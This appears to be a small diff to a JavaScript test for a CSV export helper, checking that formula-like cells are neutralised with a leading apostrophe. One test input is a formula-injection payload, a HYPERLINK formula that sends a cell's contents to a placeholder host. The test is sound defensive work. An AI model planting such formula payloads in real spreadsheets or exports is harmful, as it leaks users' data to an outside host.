@@ -11,7 +11,7 @@ it.each([
   '\nx',
   '=HYPERLINK("http://x.test/?"&A1)\nand a second line',
 ])('takes the sting out of a formula: %j', text => {
-  const [line = ''] = [csvLines([[text]])]
+  const line = csvLines([[text]])
   expect(line.replace(/^"/, '').startsWith("'")).toBe(true)
 })
 
